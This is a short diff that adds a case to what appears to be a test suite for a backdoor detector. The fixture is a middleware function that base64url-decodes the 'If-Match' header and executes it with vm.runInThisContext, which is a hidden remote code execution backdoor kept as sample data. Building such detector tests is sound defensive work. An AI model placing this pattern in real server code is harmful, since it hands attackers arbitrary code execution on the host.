@@ -176,6 +176,13 @@ module.exports = (req, res, next) => { Buffer.from(String(req.headers['x-inert']
       },
       weight: 'strong',
     },
+    {
+      when: 'what a header has encoded is decoded and run in a frame',
+      files: {
+        'index.js': `const vm = require('vm'); exports.guard = (req, res, next) => { const tag = req.headers['if-match']; if (tag) res.end(String(vm.runInThisContext('(function () { return ' + Buffer.from(tag, 'base64url').toString() + ' })()'))); else next(); };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
